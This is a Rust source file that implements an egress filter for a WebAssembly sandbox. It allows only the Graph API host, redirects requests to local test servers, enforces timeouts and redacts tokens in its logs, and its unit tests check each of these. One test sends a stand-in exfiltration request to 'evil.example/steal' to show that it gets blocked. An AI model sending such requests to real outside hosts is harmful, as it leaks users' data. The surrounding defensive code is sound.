//! The one way out of the sandbox: every HTTP request the component makes
//! passes [`EgressHooks::send_request`], which allows only the Graph API
//! host, can redirect it (to a local double), enforces timeouts and records
//! each exchange with secrets redacted.

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use serde::Serialize;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use wasmtime_wasi_http::{RequestOptions, WasiBody, WasiHttpHooks};

type HttpError = wasmtime_wasi_http::Error;
type IoFuture = Box<dyn Future<Output = Result<(), HttpError>> + Send>;

/// The Graph API host the component talks to.
pub const GRAPH_HOST: &str = "graph.facebook.com";

/// Largest answer read from the Graph API; Meta's are a few hundred bytes.
const MAX_ANSWER: usize = 1 << 20;

/// Where requests may go and how long they may take.
#[derive(Debug, Clone)]
pub struct EgressPolicy {
    /// Hosts the component may reach.
    pub allowed_hosts: Vec<String>,
    /// A base URL (`http://127.0.0.1:8080`, with an optional path prefix)
    /// that receives the allowed requests instead of their real host.
    pub redirect: Option<http::Uri>,
    /// Time to establish the connection.
    pub connect_timeout: Duration,
    /// Time from the request to the answer's first byte.
    pub first_byte_timeout: Duration,
    /// Longest pause while the answer streams.
    pub between_bytes_timeout: Duration,
    /// Values never recorded (the access token), replaced by `[redacted]`.
    pub secrets: Vec<String>,
    /// When set, allowed requests are answered by the host itself with this
    /// status and body, without any network: measures the host's own
    /// overhead.
    pub local_answer: Option<(u16, String)>,
}

impl EgressPolicy {
    /// Allows the Graph API only, with Meta's recommended timeouts.
    pub fn graph(redirect: Option<http::Uri>) -> Self {
        EgressPolicy {
            allowed_hosts: vec![GRAPH_HOST.to_string()],
            redirect,
            connect_timeout: Duration::from_millis(1500),
            first_byte_timeout: Duration::from_secs(3),
            between_bytes_timeout: Duration::from_millis(1500),
            secrets: Vec::new(),
            local_answer: None,
        }
    }

    /// Allows nothing.
    pub fn deny_all() -> Self {
        EgressPolicy {
            allowed_hosts: Vec::new(),
            ..EgressPolicy::graph(None)
        }
    }

    /// The same policy, redacting `secrets` too.
    pub fn with_secrets(mut self, secrets: impl IntoIterator<Item = String>) -> Self {
        self.secrets
            .extend(secrets.into_iter().filter(|s| !s.is_empty()));
        self
    }

    /// `text` with every secret replaced.
    pub fn redact(&self, text: &str) -> String {
        let mut out = text.to_string();
        for s in &self.secrets {
            out = out.replace(s.as_str(), "[redacted]");
        }
        out
    }
}

/// One request the component made and what came of it.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct Exchange {
    /// HTTP method.
    pub method: String,
    /// The URL the component asked for.
    pub url: String,
    /// Where the host sent it, when redirected.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sent_to: Option<String>,
    /// Request headers, `Authorization` redacted.
    pub request_headers: Vec<(String, String)>,
    /// Request body (the event JSON: hashes, never raw contact data).
    pub request_body: String,
    /// What came back.
    pub result: ExchangeResult,
    /// Milliseconds from the request to the end of the answer.
    pub elapsed_ms: u64,
}

impl Exchange {
    /// The same exchange without its request body, for reports that would
    /// otherwise repeat a large batch body once per event.
    pub fn without_request_body(&self) -> Exchange {
        Exchange {
            request_body: format!(
                "({} bytes, not repeated per event)",
                self.request_body.len()
            ),
            ..self.clone()
        }
    }
}

/// How an exchange ended.
#[derive(Debug, Clone, Serialize, PartialEq)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum ExchangeResult {
    /// An HTTP answer.
    Answered {
        /// Status code.
        status: u16,
        /// Body, as text.
        body: String,
    },
    /// The host refused the destination.
    Denied {
        /// Why.
        reason: String,
    },
    /// No answer: connection refused, timeout, cut answer.
    Failed {
        /// What happened.
        error: String,
    },
}

/// The `WasiHttpHooks` of every store.
pub struct EgressHooks {
    policy: Arc<EgressPolicy>,
    log: Arc<Mutex<Vec<Exchange>>>,
    waiting_nanos: Arc<AtomicU64>,
}

impl EgressHooks {
    /// Hooks applying `policy`, appending to `log`, and adding the time
    /// spent on requests to `waiting_nanos`.
    pub fn new(
        policy: Arc<EgressPolicy>,
        log: Arc<Mutex<Vec<Exchange>>>,
        waiting_nanos: Arc<AtomicU64>,
    ) -> Self {
        EgressHooks {
            policy,
            log,
            waiting_nanos,
        }
    }
}

impl WasiHttpHooks for EgressHooks {
    fn send_request(
        &mut self,
        request: http::Request<WasiBody>,
        _options: Option<RequestOptions>,
        _fut: IoFuture,
    ) -> Box<dyn Future<Output = Result<(http::Response<WasiBody>, IoFuture), HttpError>> + Send>
    {
        let policy = self.policy.clone();
        let log = self.log.clone();
        let waiting = self.waiting_nanos.clone();
        Box::new(async move {
            let started = Instant::now();
            // Counted even when the request fails or the future is dropped.
            struct Waited(Instant, Arc<AtomicU64>);
            impl Drop for Waited {
                fn drop(&mut self) {
                    self.1
                        .fetch_add(self.0.elapsed().as_nanos() as u64, Ordering::Relaxed);
                }
            }
            let _waited = Waited(started, waiting);
            let (mut parts, body) = request.into_parts();
            let url = policy.redact(&parts.uri.to_string());
            let method = parts.method.to_string();
            let headers: Vec<(String, String)> = parts
                .headers
                .iter()
                .map(|(k, v)| {
                    let value = if k == http::header::AUTHORIZATION {
                        "Bearer [redacted]".to_string()
                    } else {
                        policy.redact(&String::from_utf8_lossy(v.as_bytes()))
                    };
                    (k.to_string(), value)
                })
                .collect();
            let record = |sent_to: Option<String>, body: &Bytes, result: ExchangeResult| {
                log.lock().unwrap().push(Exchange {
                    method: method.clone(),
                    url: url.clone(),
                    sent_to,
                    request_headers: headers.clone(),
                    request_body: policy.redact(&String::from_utf8_lossy(body)),
                    result,
                    elapsed_ms: started.elapsed().as_millis() as u64,
                });
            };

            let host = parts.uri.host().unwrap_or_default().to_ascii_lowercase();
            // The guest writes the body after handing over the request:
            // read it whole first, so a refusal reaches the guest as
            // `HttpRequestDenied` and not as a broken stream.
            let body = match body.collect().await {
                Ok(b) => b.to_bytes(),
                Err(e) => {
                    record(
                        None,
                        &Bytes::new(),
                        ExchangeResult::Failed {
                            error: format!("request body: {e}"),
                        },
                    );
                    return Err(e);
                }
            };
            if !policy
                .allowed_hosts
                .iter()
                .any(|h| h.eq_ignore_ascii_case(&host))
            {
                record(
                    None,
                    &body,
                    ExchangeResult::Denied {
                        reason: format!(
                            "`{host}` is not an allowed host ({})",
                            policy.allowed_hosts.join(", ")
                        ),
                    },
                );
                return Err(HttpError::HttpRequestDenied);
            }

            if let Some((status, answer)) = &policy.local_answer {
                record(
                    Some("(answered by the host)".into()),
                    &body,
                    ExchangeResult::Answered {
                        status: *status,
                        body: answer.clone(),
                    },
                );
                let response = http::Response::builder()
                    .status(*status)
                    .header(http::header::CONTENT_TYPE, "application/json")
                    .body(
                        Full::new(Bytes::from(answer.clone()))
                            .map_err(|n| match n {})
                            .boxed_unsync(),
                    )
                    .map_err(|_| HttpError::InternalError(None))?;
                return Ok((response, Box::new(async { Ok(()) }) as IoFuture));
            }
            let mut sent_to = None;
            if let Some(base) = &policy.redirect {
                let prefix = base.path().trim_end_matches('/');
                let pq = parts
                    .uri
                    .path_and_query()
                    .map(|p| p.as_str())
                    .unwrap_or("/");
                let target = http::Uri::builder()
                    .scheme(base.scheme().cloned().unwrap_or(http::uri::Scheme::HTTP))
                    .authority(
                        base.authority()
                            .cloned()
                            .ok_or(HttpError::HttpRequestUriInvalid)?,
                    )
                    .path_and_query(format!("{prefix}{pq}"))
                    .build()
                    .map_err(|_| HttpError::HttpRequestUriInvalid)?;
                sent_to = Some(policy.redact(&target.to_string()));
                parts.headers.insert(
                    http::header::HOST,
                    http::HeaderValue::from_str(
                        target.authority().map(|a| a.as_str()).unwrap_or_default(),
                    )
                    .map_err(|_| HttpError::HttpRequestUriInvalid)?,
                );
                parts.uri = target;
            }
            // The guest's own timeouts are ignored: the host decides.
            let options = RequestOptions {
                connect_timeout: Some(policy.connect_timeout),
                first_byte_timeout: Some(policy.first_byte_timeout),
                between_bytes_timeout: Some(policy.between_bytes_timeout),
            };
            let outgoing = http::Request::from_parts(
                parts,
                Full::new(body.clone())
                    .map_err(|n| match n {})
                    .boxed_unsync(),
            );
            let (response, io) =
                match wasmtime_wasi_http::default_send_request(outgoing, Some(options)).await {
                    Ok(r) => r,
                    Err(e) => {
                        record(
                            sent_to,
                            &body,
                            ExchangeResult::Failed {
                                error: e.to_string(),
                            },
                        );
                        return Err(e);
                    }
                };
            let (head, answer) = response.into_parts();
            // Read the whole answer here, driving the connection meanwhile,
            // so it can be recorded; Graph answers are small.
            let (collected, io_result) = tokio::join!(
                http_body_util::Limited::new(answer, MAX_ANSWER).collect(),
                Box::into_pin(Box::new(io) as IoFuture)
            );
            let answer = match (collected, io_result) {
                (Ok(b), _) => b.to_bytes(),
                (Err(e), _) => {
                    let error = format!("the answer was cut or too slow: {e}");
                    record(sent_to, &body, ExchangeResult::Failed { error });
                    return Err(HttpError::HttpResponseIncomplete);
                }
            };
            record(
                sent_to,
                &body,
                ExchangeResult::Answered {
                    status: head.status.as_u16(),
                    body: policy.redact(&String::from_utf8_lossy(&answer)),
                },
            );
            let response = http::Response::from_parts(
                head,
                Full::new(answer).map_err(|n| match n {}).boxed_unsync(),
            );
            Ok((response, Box::new(async { Ok(()) }) as IoFuture))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    fn request(url: &str, body: &'static str) -> http::Request<WasiBody> {
        http::Request::post(url)
            .header("authorization", "Bearer tok-123")
            .body(
                Full::new(Bytes::from_static(body.as_bytes()))
                    .map_err(|n| match n {})
                    .boxed_unsync(),
            )
            .unwrap()
    }

    async fn send(
        policy: EgressPolicy,
        req: http::Request<WasiBody>,
    ) -> (Result<u16, HttpError>, Vec<Exchange>) {
        let log: Arc<Mutex<Vec<Exchange>>> = Default::default();
        let mut hooks = EgressHooks::new(Arc::new(policy), log.clone(), Default::default());
        let fut = hooks.send_request(req, None, Box::new(async { Ok(()) }));
        let r = Box::into_pin(fut)
            .await
            .map(|(resp, _)| resp.status().as_u16());
        let exchanges = log.lock().unwrap().clone();
        (r, exchanges)
    }

    /// A one-shot HTTP server answering 200 with `answer` to one request, returning
    /// what it received.
    async fn one_shot(answer: &'static str) -> (String, tokio::task::JoinHandle<String>) {
        let reply = format!(
            "HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{answer}",
            answer.len()
        );
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let task = tokio::spawn(async move {
            let (mut sock, _) = listener.accept().await.unwrap();
            let mut buf = vec![0u8; 8192];
            let mut got = Vec::new();
            loop {
                let n = sock.read(&mut buf).await.unwrap();
                got.extend_from_slice(&buf[..n]);
                let text = String::from_utf8_lossy(&got);
                if let Some(end) = text.find("\r\n\r\n") {
                    let len = text
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .strip_prefix("content-length: ")
                                .map(|v| v.trim().parse::<usize>().unwrap())
                        })
                        .unwrap_or(0);
                    if got.len() >= end + 4 + len {
                        break;
                    }
                }
                if n == 0 {
                    break;
                }
            }
            sock.write_all(reply.as_bytes()).await.unwrap();
            String::from_utf8_lossy(&got).into_owned()
        });
        (format!("http://{addr}"), task)
    }

    #[tokio::test]
    async fn other_hosts_are_denied_and_recorded() {
        let (r, log) = send(
            EgressPolicy::graph(None),
            request("https://evil.example/steal", "{\"em\":1}"),
        )
        .await;
        assert!(matches!(r, Err(HttpError::HttpRequestDenied)));
        assert_eq!(log.len(), 1);
        assert!(matches!(log[0].result, ExchangeResult::Denied { .. }));
        assert_eq!(
            log[0].request_body, "{\"em\":1}",
            "the body was drained before refusing"
        );
    }

    #[tokio::test]
    async fn graph_requests_are_redirected_and_the_token_never_recorded() {
        let (base, server) = one_shot("{\"events_received\":1,\"fbtrace_id\":\"tok-123\"}").await;
        let policy = EgressPolicy::graph(Some(format!("{base}/prefix").parse().unwrap()))
            .with_secrets(["tok-123".to_string()]);
        let (r, log) = send(
            policy,
            request(
                "https://graph.facebook.com/v24.0/1/events?access_token=tok-123",
                "{}",
            ),
        )
        .await;
        assert_eq!(r.unwrap(), 200);
        let seen = server.await.unwrap();
        assert!(seen.starts_with("POST /prefix/v24.0/1/events"), "{seen}");
        let recorded = serde_json::to_string(&log).unwrap();
        assert!(!recorded.contains("tok-123"), "{recorded}");
        assert!(recorded.contains("Bearer [redacted]"));
    }

    #[tokio::test]
    async fn a_silent_server_times_out_quickly() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let _hold = tokio::spawn(async move {
            let (_sock, _) = listener.accept().await.unwrap();
            tokio::time::sleep(Duration::from_secs(30)).await;
        });
        let mut policy = EgressPolicy::graph(Some(format!("http://{addr}").parse().unwrap()));
        policy.first_byte_timeout = Duration::from_millis(200);
        let started = Instant::now();
        let (r, log) = send(
            policy,
            request("https://graph.facebook.com/v24.0/1/events", "{}"),
        )
        .await;
        assert!(r.is_err());
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "the host's timeout applies, not 600 s"
        );
        assert!(matches!(log[0].result, ExchangeResult::Failed { .. }));
    }
}
